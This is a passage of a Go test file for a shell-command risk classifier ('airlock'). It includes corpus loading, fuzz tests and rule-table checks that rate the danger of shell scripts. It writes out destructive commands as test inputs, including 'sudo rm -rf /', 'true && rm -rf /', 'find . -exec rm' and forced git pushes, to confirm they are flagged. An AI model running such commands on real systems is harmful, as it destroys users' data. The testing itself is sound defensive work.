		{[]string{"touch", "hosts"}, []shellEntry{{"touch hosts", airlock.ClassFSWrite, airlock.TierPrivileged, ""}}},
	}
	for _, tt := range tests {
		cmds, err := analyseArgv(tt.argv, "/etc")
		if err != nil {
			t.Errorf("analyseArgv(%q): %v", tt.argv, err)
			continue
		}
		if got := shellEntries(cmds); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("analyseArgv(%q):\n got %v\nwant %v", tt.argv, got, tt.want)
		}
		for _, c := range cmds {
			if c.Line != 0 || c.Col != 0 {
				t.Errorf("analyseArgv(%q): %q at %d:%d, want no position", tt.argv, c.Text, c.Line, c.Col)
			}
		}
	}
	if _, err := analyseArgv(nil, ""); err == nil {
		t.Error("analyseArgv(nil): no error")
	}
	if _, err := analyseArgv([]string{"echo", strings.Repeat("x", maxScriptBytes)}, ""); err == nil {
		t.Error("analyseArgv(huge): no error")
	}
}

// shellOverall is the classification of a script as a whole: the entry with
// the highest tier (the first on ties), ignoring inert entries.
func shellOverall(cmds []airlock.Command) (airlock.RiskTier, airlock.Class) {
	best := -1
	for i, c := range cmds {
		if !c.Inert && (best < 0 || c.Tier > cmds[best].Tier) {
			best = i
		}
	}
	if best < 0 {
		return airlock.TierRead, airlock.ClassShellBuiltin
	}
	return cmds[best].Tier, cmds[best].Class
}

type shellCase struct {
	line         int
	tier, class  string
	script       string
	wantsFailure bool
}

// loadShellCorpus reads testdata/corpus.txt; its header documents the
// format.
func loadShellCorpus(tb testing.TB) []shellCase {
	tb.Helper()
	f, err := os.Open("testdata/corpus.txt")
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	var cases []shellCase
	sc := bufio.NewScanner(f)
	for n := 1; sc.Scan(); n++ {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		tier, rest, ok1 := strings.Cut(line, "\t")
		class, script, ok2 := strings.Cut(rest, "\t")
		if !ok1 || !ok2 || script == "" {
			tb.Fatalf("corpus.txt:%d: want tier<TAB>class<TAB>script", n)
		}
		cases = append(cases, shellCase{line: n, tier: tier, class: class, script: shellUnescape(script), wantsFailure: tier == "error"})
	}
	if err := sc.Err(); err != nil {
		tb.Fatal(err)
	}
	return cases
}

// shellUnescape decodes \n, \t and \\ in a corpus script.
func shellUnescape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			switch s[i+1] {
			case 'n':
				b.WriteByte('\n')
				i++
				continue
			case 't':
				b.WriteByte('\t')
				i++
				continue
			case '\\':
				b.WriteByte('\\')
				i++
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func TestShellCorpus(t *testing.T) {
	cases := loadShellCorpus(t)
	if len(cases) < 80 {
		t.Fatalf("corpus has %d cases, want at least 80", len(cases))
	}
	for _, tc := range cases {
		cmds, err := analyseShell(tc.script, "/home/u/project")
		if tc.wantsFailure {
			if err == nil {
				t.Errorf("corpus.txt:%d: %q: no error, want one", tc.line, tc.script)
			}
			continue
		}
		if err != nil {
			t.Errorf("corpus.txt:%d: %q: %v", tc.line, tc.script, err)
			continue
		}
		tier, class := shellOverall(cmds)
		if tier.String() != tc.tier || string(class) != tc.class {
			t.Errorf("corpus.txt:%d: %q: got %s %s, want %s %s\n%v", tc.line, tc.script, tier, class, tc.tier, tc.class, shellEntries(cmds))
		}
	}
}

// TestShellProgramTables checks that no program is in two tables (a later
// table would silently win) and that every rule copes with any arguments.
func TestShellProgramTables(t *testing.T) {
	seen := map[string]int{}
	for _, name := range readOnly {
		seen[name]++
	}
	for _, name := range listing {
		seen[name]++
	}
	for _, table := range programTables() {
		for name := range table {
			seen[name]++
		}
	}
	for name, n := range seen {
		if n > 1 {
			t.Errorf("program %q is in %d tables", name, n)
		}
	}
	argvs := [][]string{{}, {"-h"}, {"x"}, {"-x", "y", "z"}, {"--", "-"}, {"install", "-g", "x"}, {"-c", "ls"}, {"delete", "x"}}
	for name := range programs() {
		for _, args := range argvs {
			argv := append([]string{name}, args...)
			cmds, err := analyseArgv(argv, "/home/u")
			if err != nil {
				t.Errorf("analyseArgv(%q): %v", argv, err)
				continue
			}
			shellCheckValid(t, argv, cmds)
		}
	}
}

func shellCheckValid(t *testing.T, input any, cmds []airlock.Command) {
	t.Helper()
	for _, c := range cmds {
		if !c.Tier.Valid() || c.Class == "" || c.Capability == "" || c.Text == "" || c.Reason == "" {
			t.Errorf("%q: invalid entry %+v", input, c)
		}
		if c.Inert && (c.Class != airlock.ClassShellBuiltin || c.Tier != airlock.TierRead) {
			t.Errorf("%q: inert entry %+v is not a read built-in", input, c)
		}
		if c.Generic && (c.Class != airlock.ClassProcessExec || c.Tier != airlock.TierWrite) {
			t.Errorf("%q: generic entry %+v is not process.exec write", input, c)
		}
	}
}

// arg0 finds $0 in a script.
var arg0 = regexp.MustCompile(`\$\{?[#!]?0`)

func FuzzAnalyseShell(f *testing.F) {
	for _, tc := range loadShellCorpus(f) {
		f.Add(tc.script)
	}
	f.Fuzz(func(t *testing.T, script string) {
		cmds, err := analyseShell(script, "/home/u/project")
		again, err2 := analyseShell(script, "/home/u/project")
		if fmt.Sprint(err) != fmt.Sprint(err2) || !reflect.DeepEqual(cmds, again) {
			t.Fatalf("not deterministic: %v %v / %v %v", cmds, err, again, err2)
		}
		if err != nil {
			if cmds != nil {
				t.Fatalf("error %v with %d commands", err, len(cmds))
			}
			return
		}
		shellCheckValid(t, script, cmds)
		// Run through bash -c, the script has the same effects: quoting and
		// unquoting lose nothing.
		// The top's positional parameters are not known: they are passed on.
		if quoted, err := syntax.Quote(script, syntax.LangBash); err == nil && !arg0.MatchString(script) {
			if nested, err := analyseShell("bash -c -- "+quoted+` "$0" "$@"`, "/home/u/project"); err == nil {
				shellCheckNested(t, script, cmds, nested)
			}
		}
		// Whatever comes before it, a later rm is never hidden.
		for _, suffix := range []string{"\n\nrm -rf x", "\n\ntrue && rm -rf /"} {
			more, err := analyseShell(script+suffix, "/home/u/project")
			if err != nil {
				continue // denied: the strictest outcome
			}
			if tier, _ := shellOverall(more); tier < airlock.TierDestructive {
				t.Fatalf("%q: overall %s, want at least destructive\n%v", script+suffix, tier, shellEntries(more))
			}
		}
	})
}

// shellCheckNested checks that the effects of a script run with bash -c are
// those of the script, each with "bash -c" first in Via.
func shellCheckNested(t *testing.T, script string, direct, nested []airlock.Command) {
	t.Helper()
	want := make([]airlock.Command, len(direct))
	for i, c := range direct {
		c.Via = append([]string{"bash -c"}, c.Via...)
		c.Line, c.Col = 1, 1
		want[i] = c
	}
	if len(want) == 0 {
		want = nil
	}
	if !reflect.DeepEqual(nested, want) {
		t.Fatalf("%q: through bash -c\n got %v\nwant %v", script, shellEntries(nested), shellEntries(want))
	}
}

func FuzzAnalyseArgv(f *testing.F) {
	f.Add("sudo\x00rm\x00-rf\x00/")
	f.Add("bash\x00-c\x00git push -f")
	f.Add("find\x00.\x00-exec\x00rm\x00{}\x00;")
	f.Add("env\x00-S\x00sh -c 'rm x'")
	f.Fuzz(func(t *testing.T, joined string) {
		argv := strings.Split(joined, "\x00")
		cmds, err := analyseArgv(argv, "/home/u")
		again, err2 := analyseArgv(argv, "/home/u")
		if fmt.Sprint(err) != fmt.Sprint(err2) || !reflect.DeepEqual(cmds, again) {
			t.Fatalf("not deterministic")
		}
		if err == nil {
			shellCheckValid(t, argv, cmds)
		}
	})
}

func BenchmarkAnalyseShell(b *testing.B) {
	script := `cd src && git status --short && go test ./... 2>&1 | tee test.log; find . -name '*.tmp' -exec rm {} \;`
	b.ReportAllocs()
	for b.Loop() {
		if _, err := analyseShell(script, "/home/u/project"); err != nil {
			b.Fatal(err)
		}
	}
}
